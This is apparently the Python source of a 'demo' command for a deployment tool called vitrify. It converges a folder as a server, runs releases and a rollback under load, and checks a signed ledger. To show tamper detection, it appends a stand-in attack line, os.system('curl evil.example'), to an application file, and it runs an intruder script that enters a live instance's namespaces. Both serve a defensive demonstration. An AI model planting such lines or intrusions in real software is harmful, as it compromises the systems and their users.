"""`vitrify demo`: the whole idea on a real application, in under a minute; every figure is measured while you watch."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from vitrify.cli.exits import Exit
from vitrify.cli.invocation import Invocation
from vitrify.cli.options import flag, shared
from vitrify.cli.render_demo import Screen
from vitrify.cli.verb import verb
from vitrify.core.diagnostic import UsageInvalid, VitrifyError

SHOWCASE = Path(__file__).with_name("showcase")
_CLIENTS = 6


class DemoFailed(VitrifyError):
    """Something that the demo promises did not hold."""


EXAMPLES = {
    "./run demo": "From a clone: fetches the application first.",
    "vitrify demo --app ./vendor": "With what `pip install --target ./vendor httpbin gunicorn` leaves.",
}


@verb("demo", examples=EXAMPLES, exits=())
@flag("--app", metavar="DIR", default="", help="The folder with httpbin and gunicorn.")
@flag("--keep", is_flag=True, help="Leave the project folder behind, to look around in.")
@shared()
def demo(_: Invocation, app: str, keep: bool) -> Exit:  # noqa: FBT001  a flag of the command line
    """Show the whole idea in under a minute: converge a folder as if it were a server, find and undo a change that nobody
    authorised, flip one word, then replace releases of a real web application under load without losing a request. Needs no root
    and no network, works in a temporary folder and leaves nothing behind.
    """  # noqa: D205  the whole paragraph is the help
    if not app or not (Path(app) / "httpbin").is_dir():
        raise UsageInvalid(
            "the demo needs an application to serve",
            hint="pip install --target ./vendor httpbin gunicorn && vitrify demo --app ./vendor   (in a clone: ./run demo)",
        )
    screen, started = Screen.standard(), time.monotonic()
    folder = Path(tempfile.mkdtemp(prefix="vitrify-demo-"))
    stage = Stage(folder / "shop", folder / "home", screen)
    try:
        play(stage, Path(app))
        screen.line()
        screen.fact(f"all of it held, in {time.monotonic() - started:.0f} s")
    finally:
        stage.clear(keep=keep)
    return Exit.DONE


@dataclass(frozen=True)
class Stage:
    """A project folder, a home for vitrify's state, and the screen."""

    project: Path
    home: Path
    screen: Screen

    @property
    def machine(self) -> Path:
        """The folder that stands for a server's root."""
        return self.project / "machine"

    def vitrify(self, *words: str, expect: int = 0, most: int = 14, show: bool = True) -> str:
        """Run the real command and show it; `DemoFailed` unless it ends with the expected code."""
        result = subprocess.run(
            [sys.executable, "-m", "vitrify", *words],
            cwd=self.project,
            env=self._environment(),
            capture_output=True,
            text=True,
            check=False,
        )
        if show:
            self.screen.command(" ".join(("vitrify", *words)))
            self.screen.said(result.stdout + (result.stderr if result.returncode else ""), most=most)
        if result.returncode != expect:
            raise DemoFailed(f"`vitrify {' '.join(words)}` ended with {result.returncode} instead of {expect}", why=result.stderr[-2000:])
        return result.stdout

    def json(self, *words: str, expect: int = 0) -> dict[str, object]:
        """The JSON document that a command prints; not shown."""
        document: dict[str, object] = json.loads(self.vitrify(*words, "-o", "json", expect=expect, show=False))
        return document

    def _environment(self) -> dict[str, str]:
        own = {"VITRIFY_HOME": str(self.home), "COLUMNS": "92", "FORCE_COLOR": "1" if self.screen.colour else ""}
        return {**os.environ, **own, "NO_COLOR": "" if self.screen.colour else "1"}

    def rewrite(self, old: str, new: str) -> None:
        """Edit the declaration, as a person would, and show the edit."""
        path = self.project / "vitrify.yaml"
        text = path.read_text()
        if old not in text:
            raise DemoFailed(f"the declaration does not hold {old!r}")
        path.write_text(text.replace(old, new, 1))
        self.screen.line(f"   {self.screen.style('bad', '-')} {old.strip()}")
        self.screen.line(f"   {self.screen.style('good', '+')} {self.screen.style('word', new.strip())}")

    def check(self, held: bool, text: str) -> None:  # noqa: FBT001  the one thing that is asserted
        """Show a fact, or end the demo because it does not hold."""
        if not held:
            self.screen.failure(text)
            raise DemoFailed(f"did not hold: {text}")
        self.screen.fact(text)

    def clear(self, *, keep: bool) -> None:
        """End every instance and the router; remove the folder."""
        if (self.project / "vitrify.keys").exists():
            subprocess.run(
                [sys.executable, "-m", "vitrify", "retire", "web", "--only", "instances", "-y"],
                cwd=self.project,
                env=self._environment(),
                capture_output=True,
                check=False,
            )
        if keep:
            self.screen.line(f"   left behind: {self.project.parent}   (VITRIFY_HOME={self.home})")
            return
        for folder, _, _ in os.walk(self.project.parent):
            Path(folder).chmod(0o700)
        shutil.rmtree(self.project.parent, ignore_errors=True)


def play(stage: Stage, app: Path) -> None:
    """All scenes, in order."""
    url = _prepare(stage, app)
    _in_place(stage)
    _flip(stage)
    with Load(stage.project.parent / "load.json", url).running() as load:
        _second_release(stage)
        _broken_release(stage, url)
        _rollback(stage)
        report = load.stop()
    _reckon(stage, report)
    _intruder(stage)
    _ledger(stage)


def _prepare(stage: Stage, app: Path) -> str:
    stage.project.mkdir(parents=True)
    port = _free_port()
    for name in ("serve.py", "motd.j2"):
        shutil.copy(SHOWCASE / name, stage.project)
    declaration = (SHOWCASE / "vitrify.yaml").read_text().replace("${var.listen}", str(port))
    (stage.project / "vitrify.yaml").write_text(declaration)
    shutil.copytree(app, stage.project / "vendor", symlinks=True)
    for name, text in {"etc/hostname": "machine\n", "etc/hosts": "127.0.0.1 localhost\n", "etc/motd": "Welcome.\n"}.items():
        path = stage.machine / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (stage.machine / "srv").mkdir()
    return f"http://127.0.0.1:{port}"


def _in_place(stage: Stage) -> None:
    stage.screen.scene(
        1,
        "A server, changed in place",
        "The folder machine/ stands for a live server. Eight resources are declared: a real application from PyPI (httpbin), "
        "its configuration, a line in /etc/hosts, a link, a process.",
    )
    untouched = fingerprint(stage.machine)
    stage.vitrify("plan", most=22)
    stage.vitrify("apply", "-y", most=6)
    converged = fingerprint(stage.machine, times=False)
    servers = stage.json("plan")["servers"]
    stage.check(isinstance(servers, list) and [server["changes"] for server in servers] == [[]], "a second plan finds nothing to do")
    _append(stage.machine / "srv/app/serve.py", "\nimport os; os.system('curl evil.example')\n")
    stage.screen.command("echo \"import os; os.system('curl evil.example')\" >> machine/srv/app/serve.py")
    stage.vitrify("audit", "--detailed-exitcode", expect=2)
    stage.vitrify("apply", "-y", most=8)
    stage.check(fingerprint(stage.machine, times=False) == converged, "converged again: the tree is what it was before the intrusion")
    stage.vitrify("undo", "web", "-y", most=4)
    stage.vitrify("undo", "web", "-y", "--force", most=4)
    stage.check(fingerprint(stage.machine) == untouched, f"undone twice: byte for byte the tree before vitrify ({untouched[:19]}…)")


def _flip(stage: Stage) -> None:
    stage.screen.scene(
        2,
        "One word flipped",
        "The same resources, now baked into an image that never changes; two read-only instances behind Caddy.",
    )
    stage.rewrite("lifecycle: mutable  ", "lifecycle: immutable")
    stage.vitrify("plan", most=16)
    stage.vitrify("apply", "-y", most=12)


def _second_release(stage: Stage) -> None:
    stage.screen.scene(
        3,
        "Release 2, under load",
        f"{_CLIENTS} clients send keep-alive POSTs through Caddy, a steady stream, and never retry. They go on through scenes 3, 4 and 5.",
    )
    stage.rewrite('release: "1"', 'release: "2"')
    stage.vitrify("apply", "-y", most=12)


def _broken_release(stage: Stage, url: str) -> None:
    stage.screen.scene(4, "Release 3 is broken", "A typo in the command line. It must not get a single request.")
    stage.rewrite('"serve:app"]', '"serve:appp"]')
    stage.vitrify("apply", "-y", expect=7, most=10)
    stage.check(released(url) == "2", "exit code 7, and release 2 still serves")
    stage.rewrite('"serve:appp"]', '"serve:app"]')


def _rollback(stage: Stage) -> None:
    stage.screen.scene(5, "Back to release 1", "Its instances are still warm: nothing is built, nothing is started.")
    started = time.monotonic()
    stage.vitrify("rollback", "web", "-y", most=8)
    stage.screen.fact(f"the whole command took {time.monotonic() - started:.2f} s")


def _reckon(stage: Stage, report: dict[str, object]) -> None:
    total, lost = int(str(report["requests"])), int(str(report["lost"]))
    by_release = report["releases"] if isinstance(report["releases"], dict) else {}
    stage.screen.line()
    shares = ", ".join(f"release {name}: {count:,}" for name, count in sorted(by_release.items()))
    stage.check(lost == 0 and total > 0, f"{lost} lost of {total:,} requests, over two switches and one failed release ({shares})")
    counted = _counted_by_applications(stage)
    stage.check(counted == total, f"the applications themselves count {counted:,} POSTs: not one more, not one less")


def _counted_by_applications(stage: Stage) -> int:
    logs = stage.home.glob("projects/*/run/instances/*/log*")
    return sum(path.read_bytes().count(b'"POST /post HTTP/1.1" 200') for path in logs)


def _intruder(stage: Stage) -> None:
    stage.screen.scene(
        6,
        "An intruder in a running instance",
        "A program enters an instance's namespaces, makes its read-only root writable and changes the application.",
    )
    stage.screen.line("   (The declaration follows the rollback first, so that it says what is live.)")
    stage.rewrite('release: "2"', 'release: "1"')
    stage.screen.line()
    instance = _live_instance(stage)
    pid = _inside(instance)
    result = subprocess.run(
        [sys.executable, str(SHOWCASE / "intruder.py"), str(pid), "/srv/app/serve.py", "\n# was here\n"],
        capture_output=True,
        text=True,
        check=False,
    )
    if result.returncode:
        raise DemoFailed("the intruder could not get in", why=result.stderr)
    stage.screen.command(f"intruder {instance.name} /srv/app/serve.py")
    stage.vitrify("audit", "--detailed-exitcode", expect=2)
    stage.vitrify("apply", "-y", most=10)
    stage.vitrify("audit", "--detailed-exitcode", expect=0, most=4)


def _ledger(stage: Stage) -> None:
    stage.screen.scene(7, "Nobody can quietly rewrite it", "Every step above is in a signed Merkle log. One byte of a copy is flipped.")
    stage.vitrify("ledger", "show", "-n", "8")
    stage.vitrify("ledger", "verify")
    (ledger,) = (stage.home / "projects").glob("*/ledger")
    copy = stage.project.parent / "copy"
    shutil.copytree(ledger, copy)
    bundle = max(path for path in (copy / "tile" / "entries").rglob("*") if path.is_file())
    content = bytearray(bundle.read_bytes())
    content[len(content) // 2] ^= 1
    bundle.chmod(0o600)
    bundle.write_bytes(bytes(content))
    stage.vitrify("ledger", "verify", str(copy), expect=8, most=6)


@dataclass(frozen=True)
class Load:
    """The separate program that sends requests and never retries."""

    report: Path
    url: str

    @contextmanager
    def running(self) -> Iterator[RunningLoad]:
        """Started, and certain to have ended afterwards."""
        load = [sys.executable, "-m", "vitrify.testing.load", f"{self.url}/post", "--connections", str(_CLIENTS)]
        words = [*load, "--seconds", "120", "--pause", "0.02", "--echo", "--out", str(self.report)]
        process = subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        running = RunningLoad(process, self.report)
        try:
            yield running
        finally:
            if process.poll() is None:
                process.kill()
            process.communicate()


@dataclass(frozen=True)
class RunningLoad:
    """The load while it runs."""

    process: subprocess.Popen[bytes]
    report: Path

    def stop(self) -> dict[str, object]:
        """Let every request under way end, and read the report."""
        self.process.send_signal(signal.SIGTERM)
        self.process.wait(timeout=30)
        document: dict[str, object] = json.loads(self.report.read_text())
        return document


def fingerprint(folder: Path, *, times: bool = True) -> str:
    """Digest of every path, type, mode, content and (with `times`) modification time below a folder, but for vitrify's own memory."""
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        name = path.relative_to(folder)
        if name.parts[:3] == ("var", "lib", "vitrify") or name.parts in (("var",), ("var", "lib")):
            continue
        status = path.lstat()
        content = str(path.readlink()) if path.is_symlink() else "" if path.is_dir() else hashlib.sha256(path.read_bytes()).hexdigest()
        digest.update(f"{name}\0{status.st_mode:o}\0{status.st_mtime_ns if times else 0}\0{content}\0".encode())
    return f"sha256:{digest.hexdigest()}"


def released(url: str) -> str:
    """Which release answers now."""
    import http.client

    connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=5)
    try:
        connection.request("GET", "/status/200")
        return connection.getresponse().headers["X-Release"] or ""
    finally:
        connection.close()


def _append(path: Path, text: str) -> None:
    with path.open("a") as file:
        file.write(text)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _live_instance(stage: Stage) -> Path:
    """The folder of one of the instances that serve."""
    servers = stage.json("status")["servers"]
    instances = servers[0]["instances"] if isinstance(servers, list) else []
    live = next(str(instance["id"]) for instance in instances if instance["slot"] == "live")
    (folder,) = stage.home.glob(f"projects/*/run/instances/{live}")
    return folder


def _inside(instance: Path) -> int:
    """The pid of a process that lives in the instance's namespaces: the youngest descendant of what its keeper started."""
    state = json.loads((instance / "state.json").read_text())
    pid = int(state["child"]["pid"])
    while children := Path(f"/proc/{pid}/task/{pid}/children").read_text().split():
        pid = int(children[0])
    return pid
